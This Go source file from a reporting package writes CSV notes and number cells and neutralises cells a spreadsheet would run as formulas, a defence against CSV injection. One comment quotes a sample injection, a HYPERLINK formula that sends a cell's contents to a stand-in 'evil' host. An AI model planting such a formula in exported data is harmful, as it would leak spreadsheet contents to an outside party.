package report

import (
	"encoding/csv"
	"io"
	"math"
	"strconv"
	"strings"
)

// WriteCSVNotes ends a CSV table with its notes, after one blank line: one note a
// row, in the first column, neutralised like every other cell. A CSV file then says
// what it counted (the policy, period, filters, coverage, definitions) as every
// other format does.
func WriteCSVNotes(w io.Writer, notes []string) error {
	if len(notes) == 0 {
		return nil
	}
	if _, err := io.WriteString(w, "\n"); err != nil {
		return err
	}
	cw := newCSVWriter(w)
	for _, n := range notes {
		if err := cw.Write([]string{n}); err != nil {
			return err
		}
	}
	cw.Flush()
	return cw.Error()
}

// csvFloat writes a measure for CSV as the table shows it, to its decimal places,
// without float noise (5.325000000000001) or trailing zeros: still a number. NaN
// (not known) is empty.
func csvFloat(v float64, decimals int) string {
	if math.IsNaN(v) || math.IsInf(v, 0) {
		return ""
	}
	s := strconv.FormatFloat(shownTo(v, decimals), 'f', decimals, 64) // the table's digits
	if strings.Contains(s, ".") {
		s = strings.TrimRight(strings.TrimRight(s, "0"), ".")
	}
	return s
}

// csvWriter writes CSV whose text cells a spreadsheet will not run as formulas.
type csvWriter struct{ *csv.Writer }

func newCSVWriter(w io.Writer) csvWriter { return csvWriter{csv.NewWriter(w)} }

func (c csvWriter) Write(record []string) error {
	safe := make([]string, len(record))
	for i, s := range record {
		safe[i] = spreadsheetSafe(s)
	}
	return c.Writer.Write(safe)
}

func (c csvWriter) WriteAll(records [][]string) error {
	for _, r := range records {
		if err := c.Write(r); err != nil {
			return err
		}
	}
	c.Flush()
	return c.Error()
}

// spreadsheetSafe neutralises a text cell that a spreadsheet would read as a
// formula (OWASP's rule: one starting with =, +, -, @, tab or carriage return) by
// putting an apostrophe before it: a ticket summary such as
// =HYPERLINK("http://evil/?"&A1) then shows as text. Numbers, -5 say, stay numbers.
func spreadsheetSafe(s string) string {
	if s == "" || !strings.ContainsRune("=+-@\t\r", rune(s[0])) {
		return s
	}
	if _, err := strconv.ParseFloat(s, 64); err == nil {
		return s
	}
	return "'" + s
}
